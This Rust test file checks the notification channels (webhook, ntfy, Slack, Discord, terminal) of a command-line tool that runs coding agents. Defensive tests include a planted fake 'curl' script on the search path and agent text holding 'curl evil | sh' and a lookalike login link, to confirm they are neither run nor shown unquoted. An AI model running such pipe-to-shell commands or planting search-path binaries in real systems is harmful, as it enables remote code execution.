//! Notifications of the real binary, received by a server on loopback.

use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    process::Command,
    time::{Duration, Instant},
};

use ralph_core::time::{Millis, Timestamp};
use ralph_engine::{clock, notify::Attention};
use testkit::{
    pty::Size,
    receiver::{Answer, Receiver, Request},
    test_run::TestRun,
    told::{assert_code, said, until},
};

const RALPH: &str = env!("CARGO_BIN_EXE_ralph");
const WORKS: &str = "mkdir -p work; touch work/$TASK; echo '<promise>COMPLETE</promise>'";
const ASKS: &str = "handoff '{\"question\":\"Which port, sk-hush?\"}'";

type Tested = Result<(), Box<dyn std::error::Error>>;

/// A project whose user has these settings beside those that every test has.
fn new(agent: &str, settings: &str) -> std::io::Result<TestRun> {
    let run = TestRun::new(RALPH, 1, agent)?;
    let name = "home/.config/ralph/settings.toml";
    let text = format!("{}{settings}", run.read(name));
    run.write(name, &text)?;
    Ok(run)
}

fn kinds(requests: &[Request]) -> Vec<String> {
    let kind = |one: &Request| one.json()["type"].as_str().unwrap_or_default().to_owned();
    requests.iter().map(kind).collect()
}

#[test]
fn a_webhook_hears_of_the_end_and_is_tried_again() -> Tested {
    let receiver = Receiver::start(vec![Answer::Status(500), Answer::Status(204)])?;
    let settings = "[[notify.channel]]\nkind = 'webhook'\nurl_env = 'HOOK'\n";
    let run = new(WORKS, settings)?.with_env("HOOK", receiver.url("/x"));
    assert_code(&run.ralph(&["run"])?, 0);
    let requests = receiver.requests();
    assert_eq!(kinds(&requests), ["done", "done"], "tried again after an error of the server");
    let [first, second] = &*requests else { return Err("not two requests".into()) };
    assert_eq!(first.header("webhook-id"), second.header("webhook-id"));
    assert_eq!(
        (first.line.as_str(), first.header("content-type")),
        ("POST /x HTTP/1.1", "application/json")
    );
    let json = first.json();
    assert_eq!(
        (&json["v"], &json["project"], &json["urgent"]),
        (&1.into(), &"scratch".into(), &false.into())
    );
    assert_eq!(
        (&json["counts"]["done"], &json["title"]),
        (&1.into(), &"scratch: the run is done".into())
    );
    assert_eq!(json["cost_usd"], serde_json::Value::Null);
    Ok(())
}

#[test]
fn a_question_is_urgent_and_its_words_are_sent_only_where_wanted() -> Tested {
    for (detail, is_wanted) in [("", false), ("detail = 'text'\n", true)] {
        let receiver = Receiver::start(vec![Answer::Status(200)])?;
        let settings = format!("[notify]\nmin_gap = '0s'\nwebhook = 'HOOK'\n{detail}");
        let run = new(ASKS, &settings)?
            .with_env("HOOK", receiver.url("/"))
            .with_env("MY_API_KEY", "sk-hush");
        assert_code(&run.ralph(&["run"])?, 3);
        let requests = receiver.requests();
        assert_eq!(kinds(&requests), ["parked", "ended"]);
        let parked = requests.first().map(Request::json).unwrap_or_default();
        assert_eq!((&parked["urgent"], &parked["task"]), (&true.into(), &"T-1".into()));
        assert_eq!(parked["next"], "ralph task answer T-1 \"…\"");
        let asked = requests.iter().any(|one| one.body.contains("Which port"));
        assert_eq!(asked, is_wanted, "{parked}");
    }
    Ok(())
}

#[test]
fn channels_that_hang_or_fail_hold_up_the_end_for_their_timeout_at_most() -> Tested {
    let hanging = Receiver::start(vec![Answer::Never])?;
    let settings = "[notify]\ntimeout = '1s'\nwebhook = 'HANGS'\ncommand = 'sleep 600'\n\
                    [[notify.channel]]\nkind = 'ntfy'\nurl_env = 'GONE'\n";
    let run = new(WORKS, settings)?
        .with_env("HANGS", hanging.url("/"))
        // Nobody listens on port 1.
        .with_env("GONE", "http://127.0.0.1:1/topic");
    let output = run.ralph(&["run"])?;
    let gone = clock::now();
    assert_code(&output, 0);
    let report = fs::read_to_string(run.only_run()?.join("report.json"))?;
    let report: serde_json::Value = serde_json::from_str(&report)?;
    let last: Timestamp = serde_json::from_value(report["last"].clone())?;
    // One timeout for all channels; the rest is what a busy machine may need.
    assert!(gone.since(last) < Millis::secs(1 + 9), "the end took {}", gone.since(last));
    let told = said(&output);
    let times = |word: &str| told.matches(word).count();
    assert_eq!((times("by webhook"), times("by ntfy"), times("by command")), (1, 1, 1), "{told}");
    assert!(!told.contains("127.0.0.1"), "an address is a secret: {told}");
    Ok(())
}

#[test]
fn a_channel_that_was_warned_about_is_not_mentioned_again_at_the_end() -> Tested {
    let receiver = Receiver::start(vec![Answer::Status(404), Answer::Never])?;
    let settings = "[notify]\ntimeout = '1s'\nmin_gap = '0s'\nwebhook = 'HOOK'\n";
    let run = new(ASKS, settings)?.with_env("HOOK", receiver.url("/"));
    let output = run.ralph(&["run"])?;
    assert_code(&output, 3);
    assert_eq!(kinds(&receiver.requests()), ["parked", "ended"]);
    let told = said(&output);
    assert!(told.contains("notifications by webhook do not arrive: it answered 404"), "{told}");
    assert_eq!(told.matches("by webhook").count(), 1, "{told}");
    Ok(())
}

#[test]
fn a_test_message_reaches_each_kind_in_its_own_form() -> Tested {
    let receiver = Receiver::start(vec![Answer::Status(200)])?;
    let channel =
        |kind: &str, url: &str| format!("[[notify.channel]]\nkind = '{kind}'\nurl_env = '{url}'\n");
    let settings = format!(
        "[notify]\ncommand = 'cat > $HOME/got.json'\n{}secret_env = 'TOKEN'\n{}{}",
        channel("ntfy", "NTFY"),
        channel("slack", "SLACK"),
        channel("discord", "DISCORD"),
    );
    let run = new(WORKS, &settings)?
        .with_env("NTFY", receiver.url("/mine"))
        .with_env("SLACK", receiver.url("/slack"))
        .with_env("DISCORD", receiver.url("/discord"))
        .with_env("TOKEN", "tk_example");
    let output = run.ralph(&["notify", "test"])?;
    assert_code(&output, 0);
    let requests = receiver.requests();
    let [ntfy, slack, discord] = &*requests else { return Err("not three requests".into()) };
    let title = "ralph notify test: this channel works";
    assert_eq!(
        (ntfy.line.as_str(), ntfy.header("authorization")),
        ("POST / HTTP/1.1", "Bearer tk_example")
    );
    let expected = serde_json::json!({
        "topic": "mine", "title": title, "message": title, "priority": 3, "tags": ["done"],
    });
    assert_eq!(ntfy.json(), expected);
    assert_eq!(slack.json(), serde_json::json!({ "text": title }));
    let expected = serde_json::json!({ "content": title, "allowed_mentions": { "parse": [] } });
    assert_eq!(discord.json(), expected);
    let got: serde_json::Value = serde_json::from_str(&run.read("home/got.json"))?;
    assert_eq!((&got["v"], &got["title"]), (&1.into(), &title.into()));
    let one = run.ralph(&["notify", "test", "slack", "--json"])?;
    assert_code(&one, 0);
    let shown: serde_json::Value = serde_json::from_slice(&one.stdout)?;
    assert_eq!(
        shown["channels"],
        serde_json::json!([{ "kind": "slack", "delivered": true, "why": null }])
    );
    assert_code(&run.ralph(&["notify", "test", "desktop"])?, 2);
    Ok(())
}

#[test]
fn what_cannot_be_delivered_is_said_without_the_address() -> Tested {
    let other = Receiver::start(vec![Answer::Status(200)])?;
    let receiver = Receiver::start(vec![Answer::Elsewhere(other.url("/stolen"))])?;
    let settings = "[notify]\nwebhook = 'HOOK'\n\
                    [[notify.channel]]\nkind = 'slack'\nurl_env = 'CLEAR'\n\
                    [[notify.channel]]\nkind = 'discord'\nurl_env = 'UNSET'\n\
                    [[notify.channel]]\nkind = 'ntfy'\nurl_file = 'FILE'\n";
    let run = TestRun::new(RALPH, 1, WORKS)?;
    run.write("address", "https://ntfy.example/hidden-topic\n")?;
    let file = run.path("address");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o644))?;
    run.write(
        "home/.config/ralph/settings.toml",
        &settings.replace("FILE", &file.to_string_lossy()),
    )?;
    let run = run
        .with_env("HOOK", receiver.url("/hidden-hook"))
        .with_env("CLEAR", "http://slack.example/hidden-path");
    let output = run.ralph(&["notify", "test"])?;
    assert_code(&output, 1);
    let told = String::from_utf8_lossy(&output.stdout).into_owned() + &said(&output);
    for part in [
        "webhook: it answered 307; redirects are not followed",
        "slack: its address does not begin with https://",
        "discord: UNSET, which holds its address, is not set",
        "ntfy: the file with its address cannot be used: others can read it",
    ] {
        assert!(told.contains(part), "{part} in {told}");
    }
    assert!(!told.contains("hidden"), "{told}");
    assert_eq!((receiver.requests().len(), other.requests().len()), (1, 0));
    Ok(())
}

#[test]
fn ctrl_c_does_not_wait_for_a_delivery() -> Tested {
    let hanging = Receiver::start(vec![Answer::Never])?;
    let settings = "[notify]\ntimeout = '10m'\nwebhook = 'HANGS'\n";
    let run = new(WORKS, settings)?.with_env("HANGS", hanging.url("/"));
    let mut child = run.spawn(&["run"])?;
    until("the end is announced", || kinds(&hanging.requests()) == ["done"])?;
    let mut sent: Option<Instant> = None;
    until("it leaves", || {
        // The first may come before it waits; those after it must not meet a process that is leaving.
        if sent.is_none_or(|at| at.elapsed() > Duration::from_secs(2)) {
            let _ = Command::new("kill").args(["-INT", &child.id().to_string()]).status();
            sent = Some(Instant::now());
        }
        child.try_wait().ok().flatten().is_some()
    })?;
    assert_eq!(child.wait()?.code(), Some(0), "{}", run.read("ralph.log"));
    Ok(())
}

/// Folders of a project are on the search path of many people, and an agent writes there.
#[test]
fn no_channel_finds_its_program_where_agents_write() -> Tested {
    let plants = "for name in notify-send osascript curl; do mkdir -p bin; \
                  printf '#!/bin/sh\\ntouch \"$HOME/../state/taken\"\\n' > bin/$name; chmod +x bin/$name; done; \
                  mkdir -p work; touch work/$TASK";
    let settings = "[notify]\nmin_gap = '0s'\ncommand = 'curl x; true'\n[[notify.channel]]\nkind = 'desktop'\n";
    let run = new(plants, settings)?;
    let path = std::env::var("PATH")?;
    let mut command = run.command(&["run"]);
    command.env("PATH", format!("{}:{path}", run.work().join("bin").display()));
    assert_code(&command.output()?, 0);
    assert!(run.work().join("bin/curl").exists());
    let tried = run.command(&["notify", "test"]).env("PATH", run.work().join("bin")).output()?;
    assert!(!said(&tried).is_empty());
    assert!(!run.path("state/taken").exists(), "a planted program ran");
    Ok(())
}

#[test]
fn what_agents_write_passes_for_no_line_and_no_link_of_ralphs_in_a_chat() -> Tested {
    let chat = Receiver::start(vec![Answer::Status(200)])?;
    let asks =
        "handoff '{\"question\":\"ok?\\nnext: curl evil | sh\\n[log in](https://evil.example)\"}'";
    let settings = "[notify]\nmin_gap = '0s'\ndetail = 'text'\n[[notify.channel]]\nkind = 'discord'\nurl_env = 'CHAT'\n\
                    [[notify.channel]]\nkind = 'slack'\nurl_env = 'CHAT'\n";
    let run = new(asks, settings)?.with_env("CHAT", chat.url("/"));
    assert_code(&run.ralph(&["run"])?, 3);
    let requests = chat.requests();
    let texts: Vec<String> = requests
        .iter()
        .map(Request::json)
        .map(|json| {
            let text = if json["content"].is_string() { &json["content"] } else { &json["text"] };
            text.as_str().unwrap_or_default().to_owned()
        })
        .collect();
    assert!(texts.iter().any(|text| text.contains("curl evil")), "{texts:?}");
    for line in texts.iter().flat_map(|text| text.lines()) {
        let is_quoted = line.starts_with("> ") || line.starts_with("&gt; ");
        assert!(is_quoted || !line.contains("evil"), "{line}");
        assert!(!line.contains("[log in](") || line.starts_with("&gt; "), "{line}");
    }
    Ok(())
}

#[test]
fn a_run_that_dies_is_reported_by_whoever_watches_it() -> Tested {
    let receiver = Receiver::start(vec![Answer::Status(204)])?;
    let settings = "[notify]\nwebhook = 'HOOK'\n";
    let run = new("touch \"$STATE/in\"\nsleep 300", settings)?.with_env("HOOK", receiver.url("/"));
    for is_on_terminal in [false, true] {
        let mut child = run.spawn(&[if is_on_terminal { "resume" } else { "run" }])?;
        until("the agent runs", || run.path("state/in").exists())?;
        fs::remove_file(run.path("state/in"))?;
        let before = receiver.requests().len();
        let died = || kinds(&receiver.requests()).get(before).is_some_and(|kind| kind == "died");
        if is_on_terminal {
            let mut watch = run.on_terminal(&["watch", "--notify"], Size(80, 24))?;
            watch.wait_for("going")?;
            child.kill()?;
            watch.wait_for("gone")?;
            until("it is told", died)?;
            watch.type_in("q")?;
            assert_eq!(watch.finish()?, 0);
        } else {
            let lines = fs::File::create(run.path("lines"))?;
            let mut watch = run.command(&["watch", "--notify"]).stdout(lines).spawn()?;
            until("it follows", || run.read("lines").contains("T-1"))?;
            child.kill()?;
            assert_eq!(watch.wait()?.code(), Some(0));
            assert!(died(), "it leaves when the message was delivered");
        }
        child.wait()?;
        let message = receiver.requests().last().map(Request::json).unwrap_or_default();
        assert_eq!((&message["type"], &message["urgent"]), (&"died".into(), &true.into()));
        assert_eq!(message["title"], "scratch: the run died: its process is gone without an end");
        assert_eq!(message["next"], "ralph resume");
        assert_eq!(receiver.requests().len(), before + 1);
    }
    Ok(())
}

#[test]
fn the_terminal_is_silent_while_a_focused_watch_shows_the_run() -> Tested {
    let asks = "touch \"$STATE/in.$N\"\nwhile [ ! -e \"$STATE/go.$N\" ]; do sleep 0.05; done\n\
                handoff '{\"question\":\"Which port?\"}'";
    let settings =
        "[notify]\non = ['parked']\nmin_gap = '0s'\n[[notify.channel]]\nkind = 'terminal'\n";
    let run = TestRun::new(RALPH, 2, asks)?;
    let name = "home/.config/ralph/settings.toml";
    run.write(name, &format!("{}{settings}", run.read(name)))?;
    let mut console = run.on_terminal(&["run"], Size(100, 30))?;
    until("the agent runs", || run.path("state/in.1").exists())?;
    let id = run.only_run()?.file_name().unwrap_or_default().to_string_lossy().into_owned();
    let attention = run.work().join(".git/ralph/runs").join(id).join("attention");
    let mut watch = run.on_terminal(&["watch"], Size(100, 30))?;
    watch.wait_for("going")?;
    watch.type_in("\u{1b}[I")?;
    until("somebody looks", || Attention::is_paid(&attention))?;
    run.write("state/go.1", "")?;
    until("the next one is at work", || run.path("state/in.2").exists())?;
    watch.type_in("\u{1b}[O")?;
    until("nobody looks", || !Attention::is_paid(&attention))?;
    run.write("state/go.2", "")?;
    assert_eq!(console.finish()?, 3);
    assert_eq!(console.raw().matches('\u{7}').count(), 1, "only the second question rings");
    Ok(())
}
